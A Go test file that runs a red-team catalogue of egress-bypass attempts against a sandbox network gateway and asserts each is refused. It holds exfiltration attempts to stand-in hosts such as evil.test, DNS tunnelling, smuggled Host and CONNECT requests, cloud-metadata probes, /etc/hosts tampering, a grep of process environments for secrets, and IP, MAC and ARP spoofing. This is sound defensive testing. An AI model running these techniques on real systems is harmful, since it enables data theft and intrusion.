package egress_test

// The red-team catalogue of shared/research/redteam-cases.md, case by case
// with the document's numbers, in every mode each case names. Each run
// uses a fresh sandbox and fresh NONCE; the verdict comes only from
// out-of-band oracles (redteam-cases.md §2.3):
//
//	O-FLAG      no attacker endpoint (flagd v4/v6, the attacker tenant on
//	            the shared edge, attacker DNS names at the upstream
//	            resolver) logged NONCE; FLAG absent from every output
//	O-WIRE      a packet socket in the wan saw no packet whose source is not
//	            the gateway's uplink, no fragment, no other IP protocol, and
//	            no NONCE towards an attacker address
//	O-CANARY    the real credential (raw, base64, base64url, URL-encoded,
//	            JSON-escaped) absent from every output and every fake server
//	            log except api.test's checker
//	O-INTERNAL  metadata, corp, host-loopback, host-any and peer listeners
//	            logged nothing; their flags absent from output
//	O-HOST      the host canary's content absent from every output
//	O-DENY      the gateway's decision log (after the run's first sequence
//	            number) or a per-sandbox nft/gateway counter records the
//	            attempt as refused
//	O-CTRL      the mode's positive control works in the same sandbox
//
// A few packet-level cases run twice: from the sandbox (namespace driver:
// root in a user namespace, CAP_NET_RAW and CAP_NET_ADMIN dropped) and
// "netns-guest" (the same client as real root with CAP_NET_RAW
// inside the sandbox's network namespace, which is what a VM guest's
// kernel can do to its virtio link): the rules must hold for both.

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/vishvananda/netlink"
	vns "github.com/vishvananda/netns"
)

const (
	modeB = "blocked"
	modeA = "allowlist"
	modeO = "open"
)

// outcome is one case run's evidence.
type outcome struct {
	mode, exec, id, title, class string
	tier                         int
	verdict                      string
	why                          string
}

// report collects outcomes and renders the red-team table.
type report struct {
	rows []outcome
}

func (r *report) add(o outcome) { r.rows = append(r.rows, o) }

// markdown renders the summary per mode (the original SPACE red-team
// report's columns: runs, bypasses, escapes; plus credential leaks,
// internal reach, authorized-channel findings and INVALID), the per-class
// counts and the per-case table, all computed from the outcomes.
func (r *report) markdown() string {
	var b strings.Builder
	type agg struct{ runs, pass, bypass, escape, leak, internal, p, invalid int }
	modes := map[string]*agg{}
	classes := map[string]*agg{}
	var order []string
	count := func(a *agg, v string) {
		a.runs++
		switch v {
		case "PASS":
			a.pass++
		case "FAIL-B":
			a.bypass++
		case "FAIL-E":
			a.escape++
		case "FAIL-K":
			a.leak++
		case "FAIL-I":
			a.internal++
		case "FAIL-P":
			a.p++
		default:
			a.invalid++
		}
	}
	for _, o := range r.rows {
		if o.verdict == "N/A" {
			continue
		}
		m := o.mode
		if modes[m] == nil {
			modes[m] = &agg{}
			order = append(order, m)
		}
		count(modes[m], o.verdict)
		c := strings.SplitN(o.class, "/", 2)[0]
		if classes[c] == nil {
			classes[c] = &agg{}
		}
		count(classes[c], o.verdict)
	}
	total := &agg{}
	fmt.Fprintf(&b, "| mode | runs | PASS | bypasses (FAIL-B) | escapes (FAIL-E) | credential leaks (FAIL-K) | internal reach (FAIL-I) | authorized channel (FAIL-P) | INVALID |\n|---|---|---|---|---|---|---|---|---|\n")
	for _, m := range order {
		a := modes[m]
		fmt.Fprintf(&b, "| %s | %d | %d | %d | %d | %d | %d | %d | %d |\n", m, a.runs, a.pass, a.bypass, a.escape, a.leak, a.internal, a.p, a.invalid)
		total.runs += a.runs
		total.pass += a.pass
		total.bypass += a.bypass
		total.escape += a.escape
		total.leak += a.leak
		total.internal += a.internal
		total.p += a.p
		total.invalid += a.invalid
	}
	fmt.Fprintf(&b, "| **all** | **%d** | **%d** | **%d** | **%d** | **%d** | **%d** | **%d** | **%d** |\n", total.runs, total.pass, total.bypass, total.escape, total.leak, total.internal, total.p, total.invalid)
	var cls []string
	for c := range classes {
		cls = append(cls, c)
	}
	sort.Strings(cls)
	fmt.Fprintf(&b, "\nPer class (runs / PASS): ")
	for i, c := range cls {
		if i > 0 {
			b.WriteString(", ")
		}
		fmt.Fprintf(&b, "%s %d/%d", c, classes[c].runs, classes[c].pass)
	}
	b.WriteString("\n\n| case | class | mode | execution | runs | verdicts | notes |\n|---|---|---|---|---|---|---|\n")
	type key struct{ id, title, class, mode, exec string }
	var keys []key
	verdicts := map[key]map[string]int{}
	notes := map[key]string{}
	for _, o := range r.rows {
		k := key{o.id, o.title, o.class, o.mode, o.exec}
		if verdicts[k] == nil {
			verdicts[k] = map[string]int{}
			keys = append(keys, k)
		}
		verdicts[k][o.verdict]++
		if o.why != "" && notes[k] == "" {
			notes[k] = o.why
		}
	}
	for _, k := range keys {
		var vs []string
		n := 0
		for v, c := range verdicts[k] {
			vs = append(vs, fmt.Sprintf("%s×%d", v, c))
			n += c
		}
		sort.Strings(vs)
		fmt.Fprintf(&b, "| %s | %s | %s | %s | %d | %s | %s |\n", strings.TrimSpace(k.id+" "+k.title), k.class, k.mode, k.exec, n, strings.Join(vs, " "), notes[k])
	}
	return b.String()
}

// run is one case run: a fresh sandbox, a fresh NONCE, the oracles'
// starting points, and what the case found.
type run struct {
	t        *testing.T
	e        *env
	sb       sbx
	mode     string
	exec     string // "sandbox" or "netns-guest"
	n        string
	seq      uint64
	counters map[string]uint64
	wireMark int
	internal int
	peerLog  int
	outputs  []string
	// set by the case
	deny    bool // denial evidence found by the case itself
	ctrl    bool
	noCtrl  bool   // the case's own control replaces the mode's
	note    string // evidence the decision log cannot hold (e.g. the gateway gone)
	pClass  bool   // an attacker contact here is an authorized-channel finding (FAIL-P)
	invalid []string
	// gvisor, and packet-level cases on namespace (nil/"" otherwise): the
	// capture of the sandbox's veth, and why the case could not apply
	// (gvisorNA).
	veth *vethCapture
	na   string
	// qemu only: what the guest put on its tap, in QEMU's namespace.
	tap *vethCapture
}

// rt runs the red-team client in the sandbox (or, for netns-guest, as real
// root in the sandbox's network namespace).
func (r *run) rt(args ...string) string {
	var out string
	if r.exec == "netns-guest" {
		out = r.e.guest(r.t, r.sb, args...)
	} else if r.exec == "guest-root" {
		out = r.e.guestRoot(r.t, r.sb, args...) // qemu: qemu_test.go
	} else {
		out = r.e.run(r.t, r.sb, args...)
	}
	r.outputs = append(r.outputs, out)
	return out
}

// sh runs a busybox shell script in the sandbox.
func (r *run) sh(script string) string {
	out := r.e.exec(r.t, r.sb, "/bin/busybox", "sh", "-c", script)
	r.outputs = append(r.outputs, out)
	return out
}

// denied reports evidence of refusal since the run began: a deny decision
// with one of these reasons, or an increase of one of these counters
// (nft_* from the host rules, or the gateway's).
func (r *run) denied(reasons ...string) bool {
	l := r.log()
	for _, want := range reasons {
		if l.denied(want) {
			return true
		}
		if v, ok := l.Counters[want]; ok && v > r.counters[want] {
			return true
		}
	}
	return false
}

// log is the sandbox's decisions since the run began and its counters;
// empty once the gateway no longer knows the sandbox (RT-47 detaches it).
func (r *run) log() netLog {
	var l netLog
	r.e.api(r.t, "GET", fmt.Sprintf("/v1/sandboxes/%s/network/log?after=%d&limit=1000", r.sb.ID, r.seq), nil, &l)
	if l.Counters == nil {
		l.Counters = map[string]uint64{}
	}
	return l
}

// evidence summarises the refusals of the run: the decision reasons and
// the nft drop counters that grew.
func (r *run) evidence() string {
	l := r.log()
	seen := map[string]bool{}
	var out []string
	for _, d := range l.Decisions {
		if d.Verdict == "deny" && !seen[d.Reason] {
			seen[d.Reason] = true
			out = append(out, d.Reason)
		}
	}
	sort.Strings(out)
	var nft []string
	for k, v := range l.Counters {
		if strings.HasSuffix(k, "_drop") && v > r.counters[k] {
			nft = append(nft, fmt.Sprintf("%s+%d", strings.TrimPrefix(k, "nft_"), v-r.counters[k]))
		}
	}
	sort.Strings(nft)
	s := strings.Join(out, ", ")
	if len(nft) > 0 {
		if s != "" {
			s += "; "
		}
		s += "nft " + strings.Join(nft, " ")
	}
	return s
}

// grown lists the counters that grew during the run.
func (r *run) grown() string {
	l := r.log()
	var out []string
	for k, v := range l.Counters {
		if v > r.counters[k] {
			out = append(out, fmt.Sprintf("%s+%d", k, v-r.counters[k]))
		}
	}
	sort.Strings(out)
	return strings.Join(out, " ")
}

// delta is how much a counter grew during the run.
func (r *run) delta(name string) uint64 {
	l := r.log()
	if v := l.Counters[name]; v > r.counters[name] {
		return v - r.counters[name]
	}
	return 0
}

// waitDelta is delta once it reaches min, or after d: a sandbox's kernel
// may still be sending what the client handed it when the client returns
// (gVisor's netstack sends UDP asynchronously), so the host's counters
// catch up a moment later.
func (r *run) waitDelta(name string, min uint64, d time.Duration) uint64 {
	deadline := time.Now().Add(d)
	for {
		v := r.delta(name)
		if v >= min || time.Now().After(deadline) {
			return v
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func (r *run) require(ok bool, format string, args ...any) {
	if !ok {
		r.invalid = append(r.invalid, fmt.Sprintf(format, args...))
	}
}

// capDenied reports whether every privileged step of the client failed
// for lack of privilege (the sandbox was refused the capability: nothing
// could be sent that way). Its output lines look like "step X: ERR ...".
func capDenied(out string) bool {
	sent := false
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(l, "step ") && strings.HasSuffix(strings.TrimSpace(l), ": OK") && !strings.Contains(l, "socket") && !strings.Contains(l, "ping_group_range") && !strings.Contains(l, "enable ipv6") {
			sent = true
		}
	}
	return !sent
}

// rtCase is one catalogue entry.
type rtCase struct {
	id, title, class string
	tier             int
	modes            []string
	guest            bool // also run as netns-guest
	run              func(r *run)
}

func (e *env) catalogue() []rtCase {
	att, edge := attackerIP, edgeIP
	return []rtCase{
		{id: "RT-01", title: "IP-literal egress", class: "L", modes: []string{modeB, modeA}, run: func(r *run) {
			r.rt("http", att+":80", att, "/flag?n="+r.n)
			r.rt("tls", att+":443", "", att, "/flag?n="+r.n)
			for _, p := range []string{"22", "25", "53", "80", "443", "853", "3128", "4444", "8080"} {
				r.rt("raw", att+":"+p, r.n+`\n`)
			}
			r.deny = r.denied("blocked", "ip_literal", "no_sni", "unknown_protocol", "dns_refused")
		}},
		{id: "RT-03", title: "Proxy-variable removal and route manipulation", class: "L", modes: []string{modeB, modeA}, guest: true, run: func(r *run) {
			// Transparent design: nothing to unset; a plain socket to the
			// attacker is decided by the gateway, then the routes change.
			r.rt("http", att+":80", att, "/flag?n="+r.n)
			r.rt("route", att, r.n)
			r.deny = r.denied("blocked", "ip_literal")
		}},
		{id: "RT-05", title: "Plain UDP egress", class: "L", modes: []string{modeB, modeA}, guest: true, run: func(r *run) {
			var to []string
			for _, ip := range []string{att, edge, "192.0.2.8"} {
				for _, p := range []string{"53", "67", "123", "443", "500", "1194", "3478", "4500", "51820", "4444"} {
					to = append(to, ip+":"+p)
				}
			}
			r.rt(append([]string{"udps", r.n}, to...)...)
			d := r.waitDelta("nft_udp_drop", 27, 3*time.Second)
			r.require(d >= 27, "udp_drop grew by %d, want >= 27", d)
			r.deny = d >= 27
		}},
		{id: "RT-07", title: "ICMP tunnelling (outside, gateway, host uplink, other sandbox)", class: "L", modes: []string{modeB, modeA}, guest: true, run: func(r *run) {
			out := r.rt("icmp", att, edge, upstreamDNS, r.e.gwAddr(r.sb), uplinkIP, r.e.peerAddr(), r.n)
			r.deny = r.denied("nft_icmp_drop") || (r.exec == "sandbox" && capDenied(out) && strings.Contains(out, "not permitted"))
		}},
		{id: "RT-09", title: "Non-TCP/UDP IP protocols (GRE, IPIP, SIT, ESP, AH, SCTP, UDP-Lite) and IP options", class: "L", modes: []string{modeB, modeA}, guest: true, run: func(r *run) {
			out := r.rt("proto", att, r.n)
			r.deny = r.denied("nft_proto_drop", "nft_ipopt_drop")
			if r.exec == "netns-guest" {
				r.require(r.delta("nft_proto_drop") > 0 && r.delta("nft_ipopt_drop") > 0, "proto_drop %d ipopt_drop %d", r.delta("nft_proto_drop"), r.delta("nft_ipopt_drop"))
			}
			if !r.deny {
				r.na = r.gvisorNA(out, "ip options (LSRR)")
			}
		}},
		{id: "RT-10", title: "DNS tunnelling through the gateway resolver", class: "D", modes: []string{modeB, modeA}, run: func(r *run) {
			h := "x" + hex.EncodeToString([]byte(r.n))
			r.rt("dns", h+".t.evil.test")
			r.rt("dnsvia", "tcp", r.e.gwAddr(r.sb)+":53", h+".t2.evil.test")
			r.rt("dns", h+".cdn-alias.registry.test")
			r.rt("dns", r.n+".t3.evil.test")
			r.deny = r.denied("blocked", "dns_refused", "cname_exit")
		}},
		{id: "RT-11", title: "Alternative resolvers and transports (other IPs, TCP, DoT, DoQ, mDNS, LLMNR)", class: "D", modes: []string{modeB, modeA}, run: func(r *run) {
			for _, srv := range []string{att + ":53", "192.0.2.8:53", "198.51.100.53:53"} {
				r.rt("dnsvia", "udp", srv, r.n+".t.evil.test")
				r.rt("dnsvia", "tcp", srv, r.n+".t.evil.test")
			}
			r.rt("tls", "192.0.2.8:853", "dns.test", "dns.test", "/dns-query?n="+r.n)
			r.rt("udps", r.n, "192.0.2.8:853", "224.0.0.251:5353", "224.0.0.252:5355")
			r.deny = r.denied("blocked", "dns_refused") && r.denied("nft_udp_drop")
		}},
		{id: "RT-13", title: "DNS rebinding to internal addresses", class: "D/I", modes: []string{modeO, modeA}, run: func(r *run) {
			for i := 0; i < 4; i++ {
				for _, u := range []string{"rebind.evil.test:80", "rebind.evil.test:7777", "rebind2.evil.test:80", "rb.registry.test:80"} {
					r.rt("http", u, strings.Split(u, ":")[0], "/?n="+r.n)
				}
			}
			for _, name := range []string{"rebind2.evil.test", "rb.registry.test", "rebind.evil.test"} {
				out := r.rt("dns", name)
				r.require(!internalAnswer(out), "the resolver returned an internal address: %s", out)
			}
			r.deny = r.denied("internal_answer", "internal", "dns_refused", "cname_exit")
		}},
		{id: "RT-14", title: "Double resolution inside the gateway (check/dial TOCTOU)", class: "D/N", modes: []string{modeA, modeO}, run: func(r *run) {
			name := "tt.registry.test"
			if r.mode == modeO {
				name = "tt.evil.test"
			}
			before := r.e.wan.count("asked " + name)
			for i := 0; i < 12; i++ {
				r.rt("tls", name+":443", name, name, "/?n="+r.n)
			}
			if asked := r.e.wan.count("asked "+name) - before; asked > 24 {
				r.require(false, "%d upstream queries for 12 connections", asked)
			}
			r.deny = r.denied("internal_answer", "internal")
		}},
		{id: "RT-17", title: "The sandbox supplies the resolution (allowed name, attacker IP)", class: "N", modes: []string{modeA}, run: func(r *run) {
			r.rt("http", att+":80", "registry.test", "/flag?n="+r.n)
			r.rt("tls", att+":443", "registry.test", "registry.test", "/flag?n="+r.n)
			r.sh("echo '" + att + " registry.test files.registry.test' >> /etc/hosts")
			r.rt("tls", "files.registry.test:443", "files.registry.test", "files.registry.test", "/flag?n="+r.n)
			r.rt("http", "registry.test:80", "registry.test", "/flag?n="+r.n)
			r.deny = r.denied("not_resolved")
		}},
		{id: "RT-19", title: "Shared-IP co-tenant via SNI", class: "N", modes: []string{modeA}, run: func(r *run) {
			r.rt("tls", "registry.test:443", "evil-cdn.test", "evil-cdn.test", "/flag?n="+r.n)
			r.rt("tls", edge+":443", "evil-cdn.test", "evil-cdn.test", "/flag?n="+r.n)
			r.deny = r.denied("not_allowed", "not_resolved")
		}},
		{id: "RT-21", title: "TLS without SNI or with an IP literal to a shared IP", class: "N/H", modes: []string{modeA}, run: func(r *run) {
			r.rt("tls", edge+":443", "", "registry.test", "/flag?n="+r.n)
			r.rt("tls", "registry.test:443", "", "evil-cdn.test", "/flag?n="+r.n)
			r.deny = r.denied("no_sni")
		}},
		{id: "RT-24", title: "Absolute URI vs Host, duplicate or odd Host, forwarded headers", class: "H", modes: []string{modeA}, run: func(r *run) {
			n := r.n
			for _, req := range []string{
				`GET http://registry.test/flag?n=` + n + ` HTTP/1.1\r\nHost: evil-cdn.test\r\nConnection: close\r\n\r\n`,
				`GET http://evil-cdn.test/flag?n=` + n + ` HTTP/1.1\r\nHost: registry.test\r\nConnection: close\r\n\r\n`,
				`GET /flag?n=` + n + ` HTTP/1.1\r\nHost: registry.test\r\nHost: evil-cdn.test\r\nConnection: close\r\n\r\n`,
				`GET /flag?n=` + n + ` HTTP/1.1\r\nHost: registry.test@evil-cdn.test\r\nConnection: close\r\n\r\n`,
				`GET /flag?n=` + n + ` HTTP/1.1\r\nHost : evil-cdn.test\r\nHost: registry.test\r\nConnection: close\r\n\r\n`,
				`GET /flag?n=` + n + ` HTTP/1.1\r\nHost: registry.test\r\nX-Forwarded-Host: evil-cdn.test\r\nForwarded: host=evil-cdn.test\r\nConnection: close\r\n\r\n`,
				`GET /flag?n=` + n + ` HTTP/1.0\r\n\r\n`,
				`GET /a HTTP/1.1\r\nHost: registry.test\r\n\r\nGET /flag?n=` + n + ` HTTP/1.1\r\nHost: evil-cdn.test\r\n\r\n`,
			} {
				r.rt("raw", "registry.test:80", req)
			}
			r.rt("keepalive", "registry.test:80", "registry.test", "/a", "evil-cdn.test", "/flag?n="+n)
			r.deny = r.denied("host_mismatch", "bad_request", "duplicate_host", "no_host", "authority_mismatch", "not_allowed")
		}},
		{id: "RT-25", title: "CONNECT variants (transparent design: CONNECT on allowed connections, GW:3128)", class: "H", modes: []string{modeA}, run: func(r *run) {
			smuggle := `GET /flag?n=` + r.n + ` HTTP/1.1\r\nHost: evil-cdn.test\r\n\r\n`
			r.rt("raw", "registry.test:80", `CONNECT registry.test:80 HTTP/1.1\r\nHost: registry.test\r\n\r\n`+smuggle)
			r.rt("rawtls", "registry.test:443", "registry.test", `CONNECT evil-cdn.test:443 HTTP/1.1\r\nHost: registry.test\r\n\r\n`+smuggle)
			r.rt("raw", "registry.test:80", `GET / HTTP/1.1\r\nHost: registry.test\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n`+smuggle)
			r.rt("raw", r.e.gwAddr(r.sb)+":3128", `CONNECT `+att+`:443 HTTP/1.1\r\n\r\n`+smuggle)
			for _, a := range []string{"registry.test:443@evil.test:443", "[::ffff:c633:6442]:443", "registry.test:0443", "registry.test:65979"} {
				r.rt("raw", "registry.test:80", `CONNECT `+a+` HTTP/1.1\r\nHost: registry.test\r\n\r\n`+smuggle)
			}
			r.deny = r.denied("connect_denied", "upgrade_denied", "internal")
		}},
		{id: "RT-27", title: "Relays inside the sandbox and SOCKS", class: "H", modes: []string{modeA}, run: func(r *run) {
			r.rt("raw", att+":4444", `\x05\x01\x00`+r.n)
			r.rt("raw", r.e.gwAddr(r.sb)+":1080", `\x05\x01\x00\x05\x01\x00\x03\x09evil.test\x01\xbb`+r.n)
			r.rt("raw", "registry.test:80", `\x05\x01\x00`+r.n)
			r.deny = r.denied("unknown_protocol", "internal", "ip_literal", "bad_request", "no_host")
		}},
		{id: "RT-29", title: "Redirect following by the gateway", class: "H", modes: []string{modeA, modeO}, run: func(r *run) {
			target := url.QueryEscape("http://evil.test/flag?n=" + r.n)
			out := r.rt("tls", "registry.test:443", "registry.test", "registry.test", "/r?to="+target)
			r.require(strings.Contains(out, " 302 "), "the 3xx did not reach the sandbox: %s", out)
			if r.mode == modeA {
				r.rt("http", "evil.test:80", "evil.test", "/flag?n="+r.n) // the sandbox follows: a new decision
			}
			r.rt("tls", "registry.test:443", "registry.test", "registry.test", "/r?to="+url.QueryEscape("http://169.254.169.254/latest/meta-data/"))
			r.rt("http", "169.254.169.254:80", "169.254.169.254", "/latest/meta-data/")
			if r.mode == modeA {
				r.deny = r.denied("dns_refused") && r.denied("ip_literal", "internal")
			} else {
				r.deny = r.denied("internal")
			}
		}},
		{id: "RT-30", title: "Secret discovery inside the sandbox", class: "K", modes: []string{modeB, modeA, modeO}, run: func(r *run) {
			r.sh("env; /bin/busybox grep -rasoh 'space-canary-[0-9a-f]*' /proc/[0-9]*/environ /proc/cmdline /etc /root /home /var /tmp /run 2>/dev/null | head; cat /proc/cmdline")
			r.rt("http", "169.254.169.254:80", "169.254.169.254", "/latest/api/token")
			r.deny = true // nothing to refuse: the oracle is O-CANARY over everything the sandbox could read
			if r.mode != modeB {
				r.noCtrl = true
				r.ctrl = r.e.credCtrl(r)
			}
		}},
		{id: "RT-31", title: "Placeholder sent to a host it is not bound to", class: "K", modes: []string{modeA, modeO}, run: func(r *run) {
			r.rt("https", "registry.test:443", "registry.test", "/echo/headers", "GET", "Bearer $API_TOKEN")
			if r.mode == modeO {
				r.rt("tlsauth", "evil.test:443", "evil.test", "evil.test", "/flag?n="+r.n, "Bearer $API_TOKEN")
				r.rt("tlsauth", "api.test.evil.test:443", "api.test.evil.test", "api.test.evil.test", "/?n="+r.n, "Bearer $API_TOKEN")
				r.rt("httpauth", "evil.test:80", "evil.test", "/flag?n="+r.n, "Bearer $API_TOKEN")
			}
			r.require(!r.e.wan.sawEvent("edge registry GET registry.test /echo/headers"), "the placeholder request reached the registry")
			r.deny = r.denied("credential_host", "credential_plaintext", "credential_misuse")
			r.noCtrl = true
			r.ctrl = r.e.credCtrl(r)
		}},
		{id: "RT-33", title: "Echo-back reflection through the bound service", class: "K", modes: []string{modeA, modeO}, run: func(r *run) {
			before := r.e.wan.count("api.test credential-ok")
			for _, p := range []string{"echo/headers", "echo/b64", "error", "echo/resp-header", "echo/gzip", "echo/stream", "echo/split"} {
				r.rt("https", "api.test:443", "api.test", "/v1/"+p, "GET", "Bearer $API_TOKEN")
			}
			got := r.e.wan.count("api.test credential-ok") - before
			r.noCtrl = true
			r.ctrl = got >= 7
			r.require(r.ctrl, "api.test got the real credential %d times, want 7", got)
			r.deny = r.denied("unscannable_response") // gzip: cannot be scrubbed, so refused
		}},
		{id: "RT-35", title: "Injection carried across redirects", class: "K", modes: []string{modeA, modeO}, run: func(r *run) {
			out := r.rt("https", "api.test:443", "api.test", "/v1/redir?to="+url.QueryEscape("https://evil.test/cb?n="+r.n), "GET", "Bearer $API_TOKEN")
			r.require(strings.Contains(out, " 302 "), "redirect not passed back: %s", out)
			r.rt("tlsauth", "evil.test:443", "evil.test", "evil.test", "/cb?n="+r.n, "Bearer $API_TOKEN")
			r.rt("https", "api.test:443", "api.test", "/v1/redir?to="+url.QueryEscape("https://files.api.test/echo/headers"), "GET", "Bearer $API_TOKEN")
			r.rt("https", "files.api.test:443", "files.api.test", "/echo/headers", "GET", "Bearer $API_TOKEN")
			r.rt("httpauth", "api.test:80", "api.test", "/v1/echo/headers", "Bearer $API_TOKEN")
			r.deny = r.denied("credential_host", "credential_plaintext", "dns_refused", "not_allowed")
			r.noCtrl = true
			r.ctrl = r.e.credCtrl(r)
		}},
		{id: "RT-38", title: "Cloud and Firecracker metadata, link-local (every encoding)", class: "I", modes: []string{modeB, modeA, modeO}, run: func(r *run) {
			for _, a := range []string{"169.254.169.254:80", "169.254.170.2:80", "2852039166:80", "0xA9FEA9FE:80", "metadata.google.internal:80"} {
				r.rt("http", a, "metadata.google.internal", "/computeMetadata/v1/?n="+r.n)
			}
			r.rt("raw", "169.254.169.254:80", `PUT /latest/api/token HTTP/1.1\r\nHost: 169.254.169.254\r\nX-metadata-token-ttl-seconds: 60\r\n\r\n`)
			r.deny = r.denied("blocked", "internal", "ip_literal", "dns_refused")
		}},
		{id: "RT-39", title: "Host and gateway services (GW ports, host loopback, host 0.0.0.0, control API)", class: "I", modes: []string{modeB, modeA, modeO}, run: func(r *run) {
			gw := r.e.gwAddr(r.sb)
			ports := []string{"22", "80", "443", "2222", "7777", "3128", "8080"}
			ports = append(ports, r.e.serverPorts()...)
			for _, p := range ports {
				r.rt("http", gw+":"+p, gw, "/?n="+r.n)
			}
			r.rt("http", uplinkIP+":2222", uplinkIP, "/?n="+r.n)
			r.rt("http", "127.0.0.1:7777", "127.0.0.1", "/?n="+r.n) // the sandbox's own loopback
			r.deny = r.denied("blocked", "internal", "ip_literal")
		}},
		{id: "RT-40", title: "Other sandboxes (TCP, ICMP, UDP, broadcast)", class: "I/S", modes: []string{modeB, modeA, modeO}, run: func(r *run) {
			peer := r.e.peerAddr()
			r.rt("http", peer+":8000", peer, "/?n="+r.n)
			r.rt("icmp", peer, r.n)
			r.rt("udps", r.n, peer+":9", "255.255.255.255:9", "10.200.0.255:9")
			r.deny = r.denied("blocked", "internal", "ip_literal") && r.denied("nft_udp_drop")
		}},
		{id: "RT-42", title: "Source-IP spoofing (peer, gateway, upstream resolver as source)", class: "S", modes: []string{modeB, modeA}, guest: true, run: func(r *run) {
			r.rt("spoof", r.e.peerAddr(), att, r.n)
			r.rt("spoof", r.e.gwAddr(r.sb), att, r.n)
			r.rt("spoof", upstreamDNS, r.e.gwAddr(r.sb), r.n)
			r.deny = r.denied("nft_spoof_drop")
			if !r.deny {
				r.na = r.gvisorNA(strings.Join(r.outputs, "\n"))
			}
		}},
		{id: "RT-43", title: "MAC change and ARP spoofing (R2, R16; no text in redteam-cases.md)", class: "S", modes: []string{modeB, modeA}, guest: true, run: func(r *run) {
			out := r.rt("mac", "02:5a:00:00:00:66", att+":80", r.n)
			l, _ := r.e.srv.Network().Links.Get(r.sb.instance)
			mac, static, err := r.e.srv.Network().Links.Neighbour(r.sb.instance)
			r.require(err == nil && static && l != nil && mac.String() == l.GuestMAC.String(),
				"host neighbour entry for the sandbox: %v static=%v (%v), want the assigned %v, static", mac, static, err, l.GuestMAC)
			changed := strings.Contains(out, "step set mac 02:5a:00:00:00:66: OK")
			r.require(!changed || !strings.Contains(out, "CONNECTED"), "a connection got through with the changed MAC: %s", out)
			r.deny = r.denied("nft_mac_drop")
			if r.exec == "netns-guest" {
				d := r.delta("nft_arp_drop")
				r.require(d >= 3, "arp_drop grew by %d, want >= 3 (forged announcements, a request for another address, a request from another address)", d)
			}
			if !r.deny {
				r.na = r.gvisorNA(out)
			}
		}},
		{id: "RT-45", title: "Fragmentation (tiny, overlapping, kernel-fragmented)", class: "S", modes: []string{modeB, modeA}, guest: true, run: func(r *run) {
			r.rt("frag", att, r.n)
			r.rt("frag", r.e.gwAddr(r.sb), r.n)
			r.deny = r.denied("nft_frag_drop")
		}},
		{id: "RT-44", title: "IPv6 egress: link-local, ULA, global, metadata fd00:ec2::254 (R3; no text in redteam-cases.md)", class: "S", modes: []string{modeB, modeA}, guest: true, run: func(r *run) {
			out := r.rt("v6", r.n)
			r.deny = r.denied("nft_v6_drop") || (r.exec == "sandbox" && strings.Contains(out, "enable ipv6 all: ERR"))
			l, _ := r.e.srv.Network().Links.Get(r.sb.instance)
			v6on := l != nil && l.Guest6.IsValid()
			if v6on {
				// The host has IPv6, so the sandbox has an address and a
				// route through its gateway: IPv6 is policed like IPv4
				// (the gateway decides TCP, UDP and other ICMPv6 are
				// dropped, foreign sources are spoofs).
				// Each phase that ran must show its refusal (gvisor's
				// Sentry refuses the extra addresses; a netns-guest run
				// in gvisor's pinned netns has no assigned address).
				assigned := strings.Contains(out, "step assigned tcp6")
				extra := strings.Contains(out, "step add fd00:5a::2/64: OK")
				ok := assigned || extra
				if assigned {
					ok = ok && r.denied("nft_udp_drop") && r.denied("blocked", "no_host", "ip_literal", "internal")
				}
				if extra {
					ok = ok && r.denied("nft_spoof_drop")
				}
				r.deny = ok
			}
			if r.veth != nil && !v6on && !r.denied("nft_v6_drop") {
				// gvisor: the sandbox's own errors are no denial evidence;
				// either the host counted IPv6 or nothing could be sent.
				r.deny = false
				r.na = r.gvisorNA(out, "icmpv6 socket udp6")
			}
		}},
		{id: "RT-47", title: "Fail-closed: overload", class: "R", modes: []string{modeA}, run: func(r *run) {
			r.rt("flood", att+":4444", "20")
			r.rt("flood", "registry.test:80", "20")
			r.deny = r.denied("overload")
		}},
		{id: "RT-47", title: "Fail-closed: gateway gone for the sandbox", class: "R", modes: []string{modeA}, run: func(r *run) {
			r.ctrl = strings.Contains(r.rt("http", "registry.test:80", "registry.test", "/simple/"), "registry ok")
			r.noCtrl = true
			r.e.srv.Network().GW.Detach(r.sb.instance)
			out := r.rt("http", edge+":80", "registry.test", "/"+r.n)
			r.rt("http", att+":80", att, "/"+r.n)
			r.rt("tls", edge+":443", "registry.test", "registry.test", "/"+r.n)
			r.deny = strings.HasPrefix(out, "ERR") // the connection itself fails: nothing listens, nothing forwards
			r.note = "gateway detached: connections refused by the host, none forwarded"
		}},
		{id: "RT-47", title: "Fail-closed: policy swap allowlist → blocked", class: "R", modes: []string{modeA}, run: func(r *run) {
			r.ctrl = strings.Contains(r.rt("http", "registry.test:80", "registry.test", "/simple/"), "registry ok")
			r.noCtrl = true
			if code := r.e.api(r.t, "PUT", "/v1/sandboxes/"+r.sb.ID+"/network", map[string]any{"mode": "blocked"}, nil); code != 200 {
				r.t.Fatalf("PUT network: %d", code)
			}
			before := r.log().Counters["upstream_sockets"]
			r.rt("http", "registry.test:80", "registry.test", "/"+r.n)
			r.rt("dns", r.n+".registry.test")
			after := r.log().Counters["upstream_sockets"]
			r.require(after == before, "upstream sockets after the swap to blocked: %d -> %d", before, after)
			r.require(!r.e.wan.sawEvent(r.n), "a request after the swap reached the wan")
			r.deny = r.denied("blocked")
		}},
		{id: "RT-48", title: "vsock, host-agent surface (firecracker only)", class: "V", modes: []string{modeB}},
		{id: "RT-49", title: "Relay or write channel on an allowed registry (preset-shaped rule)", class: "P", tier: 2, modes: []string{modeA}, run: func(r *run) {
			r.pClass = true
			r.rt("https", "registry.test:443", "registry.test", "/proxy/evil.test/flag%3Fn%3D"+r.n, "GET", "")
			r.rt("httpm", "registry.test:443", "registry.test", "/upload/pkg-"+r.n+".tgz", "PUT", r.n)
			r.deny = r.denied("request_not_allowed")
		}},
	}
}

// policies per mode (redteam-cases.md §2.2): P_blocked, P_allow, P_open.
func (e *env) policy(mode, credID string) map[string]any {
	switch mode {
	case modeA:
		p := map[string]any{"mode": "allowlist", "allow": []string{"registry.test:443,80", "*.registry.test:443", "api.test:443,80"}}
		if credID != "" {
			p["credentials"] = []string{credID}
		}
		return p
	case modeO:
		p := map[string]any{"mode": "open"}
		if credID != "" {
			p["credentials"] = []string{credID}
		}
		return p
	}
	return nil
}

// rt49Policy is the registry preset's shape: read-only methods on
// download paths only (R20).
